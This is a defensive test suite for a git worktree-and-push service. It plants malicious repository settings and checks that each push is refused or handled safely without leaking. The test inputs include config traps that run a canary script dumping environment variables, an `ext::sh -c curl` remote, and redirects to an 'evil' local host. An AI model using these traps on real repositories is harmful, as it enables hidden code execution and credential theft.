import { execFileSync } from 'node:child_process';
import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Canaries } from '../../support/canary.ts';
import { unreached } from '../../support/counting-server.ts';
import { beside, clean, done, GitScene, identity, refusal, type Work } from '../../support/git-scene.ts';
import { systemTools } from '../../support/user.ts';

let scene: GitScene;
let next = 618_000;

/** A clone with a worktree that is one commit ahead, and where it is kept as it was. */
let base: { readonly work: Work; readonly commit: string };
let kept: string;

beforeAll(async () => {
  scene = await GitScene.start(systemTools('sh'));
  const work = await scene.worked(next++);
  base = { work, commit: await scene.commit(work) };
  kept = join(scene.service.folder, 'kept.tar');
  execFileSync('tar', ['-C', scene.at(work.user, ''), '-cf', kept, '.']);
});
afterAll(() => scene.stop());

/** A script of the user's in the home, with the names of their things. */
const sh = ({ user, project, folder, branch }: Work, script: string): Promise<string> => {
  const names = {
    C: scene.at(user, 'canary'),
    E: `127.0.0.1:${scene.counting.port}`,
    P: scene.at(user, `repos/${project}`),
    G: scene.at(user, `repos/${project}/.git`),
    W: scene.at(user, folder),
    B: branch,
  };
  const set = Object.entries(names).map(([key, value]) => `${key}='${value}'`);
  return scene.sh(user, '', `${set.join('; ')}; ${script}`);
};

/** The clone, the worktree and the remote as they were before anything was done to them. */
const restored = (): typeof base => {
  const { work } = base;
  const home = scene.at(work.user, '');
  for (const name of readdirSync(home)) rmSync(join(home, name), { recursive: true });
  execFileSync('tar', ['-C', home, '-xpf', kept]);
  work.repository.git('update-ref', '-d', `refs/heads/${work.branch}`);
  return base;
};

/** Makes another repository of the user's, whose settings are traps. */
const otherRepository = `
  printf '#!/bin/sh\\n{ echo ran; env; } >>"%s/canary.log"\\n' "$HOME" >$C; chmod 700 $C
  git clone -q --bare "$G/.." "$HOME/other"
  for key in core.fsmonitor core.sshCommand credential.helper core.alternateRefsCommand remote.origin.uploadpack; do
    git --git-dir "$HOME/other" config $key $C; done
  git --git-dir "$HOME/other" config remote.origin.pushurl https://$E/x.git
  git --git-dir "$HOME/other" config url.https://$E/.insteadOf https://
  git --git-dir "$HOME/other" update-ref "refs/heads/$B" HEAD`;

/**
 * Worktree and push of what the user has made of the clone: each works or is refused, and neither leaks.
 * @returns what became of the push: the commit that was pushed, or status and code
 */
const judged = async (work: Work, commit: string): Promise<string> => {
  const { user, repository, branch, project } = work;
  const [refs, pushed] = [repository.refs(), repository.pushed().length];
  scene.server.seen.length = 0;
  const made = await scene.worktree(beside(work));
  const push = await scene.push(work);
  expect([200, 400, 403, 404], push.text).toContain(push.status);
  // Seen only at the end, when the clone was changed already, it is nothing that was not done.
  if (made.body.error !== 'uncertain') expect([200, 400, 403, 404], made.text).toContain(made.status);
  const ref = `refs/heads/${branch}`;
  if (push.body.ok) {
    expect(push.body.commit).toBe(commit);
    expect(repository.refs()).toEqual({ ...refs, [ref]: commit });
  } else expect(repository.refs()).toEqual(refs);
  // Also of what the server took no notice of.
  for (const line of repository.pushed().slice(pushed))
    expect(line).toBe(`${ref} ${refs[ref] ?? '0'.repeat(40)} ${commit} options=0`);
  expect(new Canaries(scene, work, '').filesWithToken()).toEqual([]);
  expect(scene.counting.reached).toEqual(unreached);
  for (const { path } of scene.server.seen) expect(path).toMatch(new RegExp(`^/${project.replace('__', '/')}\\.git/`));
  const { space, tmp } = scene.leftIn(user);
  expect({ space, tmp }).toEqual({ space: clean().space, tmp: [] });
  return push.body.ok ? commit : `${push.status} ${push.body.error ?? 'ok: false'}`;
};

test.each([
  ['the clone’s .git is a file that points elsewhere', 'mv $G "$HOME/moved"; echo "gitdir: $HOME/moved" >$G'],
  ['the clone’s .git is a link', 'mv $G "$HOME/moved"; ln -s "$HOME/moved" $G'],
  ['the clone is a link', 'mv "$P" "$HOME/moved"; ln -s "$HOME/moved" "$P"'],
  [
    'the worktree’s .git points at a registration of another repository',
    `${otherRepository}; git --git-dir "$HOME/other" worktree add -q -f "$HOME/w" "$B"; cp "$HOME/w/.git" $W/.git`,
  ],
  [
    'the worktree’s .git points at a registration of another repository, and that back',
    `${otherRepository}; git --git-dir "$HOME/other" worktree add -q -f "$HOME/w" "$B"; cp "$HOME/w/.git" $W/.git
     echo $W/.git >"$HOME/other/worktrees/w/gitdir"`,
  ],
  ['the worktree’s .git is a folder', 'rm $W/.git; cp -r $G $W/.git'],
  [
    'the registration’s commondir leads to another repository',
    `${otherRepository}; R=$(sed 's/^gitdir: //' $W/.git); echo "$HOME/other" >$R/commondir`,
  ],
])('%s: the push is refused', async (_what, script) => {
  const { work, commit } = restored();
  await sh(work, script);
  expect(await judged(work, commit)).toMatch(/^(400|403|404) /);
});

test.each([
  ['commondir of the clone leads to another repository', `${otherRepository}; echo "$HOME/other" >$G/commondir`],
  ['the objects are a link', 'mv $G/objects "$HOME/objects"; ln -s "$HOME/objects" $G/objects'],
  ['the refs are a link', 'mv $G/refs "$HOME/refs"; ln -s "$HOME/refs" $G/refs'],
  ['the configuration is a link', 'mv $G/config "$HOME/config"; ln -s "$HOME/config" $G/config'],
  ['core.worktree leads elsewhere', 'git --git-dir $G config core.worktree "$HOME/elsewhere"'],
  ['it says it is bare', 'git --git-dir $G config core.bare true'],
  ['it is of a version that nobody knows', 'git --git-dir $G config core.repositoryFormatVersion 99'],
  [
    'it says its names are SHA-256',
    'git --git-dir $G config core.repositoryFormatVersion 1; git --git-dir $G config extensions.objectFormat sha256',
  ],
  ['its configuration is broken', 'echo "[remote" >>$G/config'],
  ['its shallow file is not one', 'echo ../../x >>$G/shallow'],
  ['its shallow file names the tip too', 'git -C $W rev-parse HEAD >>$G/shallow'],
  ['it has no shallow file', 'rm $G/shallow'],
])('%s: works, or is refused', async (_what, script) => {
  const { work, commit } = restored();
  await sh(work, script);
  await judged(work, commit);
});

test('replaced and grafted commits are pushed as they are', async () => {
  const work = await scene.prepared(next++);
  await sh(work, 'cd $W; echo good >f.txt; git add f.txt');
  const commit = await scene.commit(work, 'as it is');
  const other = await sh(
    work,
    `cd $W; git ${identity.map((word) => `'${word}'`).join(' ')} commit-tree -m other 'HEAD~1^{tree}'`,
  );
  await sh(work, `cd $W; git replace ${commit} ${other}; mkdir -p $G/info; echo ${commit} >$G/info/grafts`);
  expect(await scene.git(work.user, work.folder, 'log', '--format=%s', commit)).toBe('other');
  expect(await judged(work, commit)).toBe(commit);
  expect(work.repository.git('log', '-1', '--format=%s', commit)).toBe('as it is');
  expect(work.repository.git('show', `${commit}:f.txt`)).toBe('good');
  expect(work.repository.git('rev-parse', `${commit}~1`)).toBe(work.repository.tip('main'));
  expect(Object.keys(work.repository.refs()).some((ref) => ref.startsWith('refs/replace'))).toBe(false);
});

test('objects that are missing are fetched from nowhere', async () => {
  const work = await scene.prepared(next++);
  const blob = await scene.git(work.user, work.folder, 'rev-parse', 'HEAD:README.md');
  await sh(
    work,
    `printf '#!/bin/sh\\n{ echo ran; env; } >>"%s/canary.log"\\n' "$HOME" >$C; chmod 700 $C
     # A pack without files, which says that its other half can be had elsewhere.
     cd "$P"; git rev-list --objects --no-object-names --filter=blob:none --all | git pack-objects -q "$HOME/pack"
     rm -rf $G/objects/pack/* $G/objects/??; mv "$HOME"/pack-* $G/objects/pack
     for pack in $G/objects/pack/*.pack; do : >"$(echo "$pack" | sed 's/pack$/promisor/')"; done
     git --git-dir $G config core.repositoryFormatVersion 1; git --git-dir $G config extensions.partialClone evil
     git --git-dir $G config remote.evil.promisor true; git --git-dir $G config remote.evil.url https://$E/x.git`,
  );
  await sh(work, `git --git-dir $G cat-file -e ${blob} || :`);
  expect(scene.counting.reached.connections, 'a git that is told nothing goes there').toBeGreaterThan(0);
  scene.counting.forget();
  const commit = await scene.git(work.user, work.folder, 'rev-parse', 'HEAD');
  await judged(work, commit);
  await sh(
    work,
    'git --git-dir $G config remote.evil.url "ext::$C"; git --git-dir $G config protocol.ext.allow always',
  );
  await sh(work, `git --git-dir $G cat-file -e ${blob} || :`);
  expect(await sh(work, 'grep -c ^ran canary.log')).toBe('1');
  await judged(work, commit);
});

test('a branch that is at a tag is pushed as a commit, or refused', async () => {
  const work = await scene.prepared(next++);
  const commit = await scene.commit(work);
  await scene.git(work.user, work.folder, ...identity, 'tag', '-a', '-m', 'a', 'annotated');
  await sh(work, 'git -C $W rev-parse refs/tags/annotated >$G/refs/heads/$B');
  await judged(work, commit);
});

test('the URL of a clone that was changed: nobody is asked, by worktree or push', async () => {
  const work = await scene.prepared(next++);
  await scene.commit(work);
  const own = scene.server.url(work.project.replace('__', '/'));
  const { path: another } = scene.repository();
  const [host, evil] = [scene.server.host, `127.0.0.1:${scene.counting.port}`];
  const path = new URL(own).pathname;
  const setUrl = (...urls: string[]) =>
    sh(
      work,
      `git --git-dir $G config --unset-all remote.origin.url || :; ${urls.map((url) => `git --git-dir $G config --add remote.origin.url '${url}'`).join('; ')}`,
    );
  for (const urls of [
    [`https://${evil}${path}.git`],
    [`${own}.git`, `https://${evil}${path}.git`],
    [`http://${host}${path}.git`],
    [`https://user:x@${host}${path}.git`],
    [`https://${host}@${evil}${path}.git`],
    [`https://${host}${path}.git?x`],
    [`https://${host}${path}.git#x`],
    [`https://${host}/x/..${path}.git`],
    [`https://localhost:${scene.server.port}${path}.git`],
    [`HTTPS://${host}${path}.git`],
    [`file://${work.repository.folder}`],
    [work.repository.folder],
    ['../other'],
    [`ext::sh -c "curl http://${evil}/"`],
    [`ssh://${evil}${path}.git`],
    [`git@${evil}:${path}.git`],
    [`git://${evil}${path}.git`],
    [scene.server.url(`${another}.git`)],
    ['--upload-pack=x'],
    [''],
    [],
  ]) {
    await setUrl(...urls);
    scene.server.seen.length = 0;
    expect(refusal(await scene.push(work)), urls.join(' ')).toEqual([403, 'host_not_allowed']);
    expect(refusal(await scene.worktree(beside(work))), urls.join(' ')).toEqual([403, 'host_not_allowed']);
    expect(scene.server.seen).toEqual([]);
  }
  // Of one that is included nothing is read.
  await setUrl(`${own}.git`);
  await sh(
    work,
    `git config --file $HOME/included remote.origin.url https://${evil}/x; git --git-dir $G config include.path $HOME/included`,
  );
  done(await scene.push(work));
  expect(scene.counting.reached).toEqual(unreached);
  expect(work.repository.pushed()).toHaveLength(1);
});
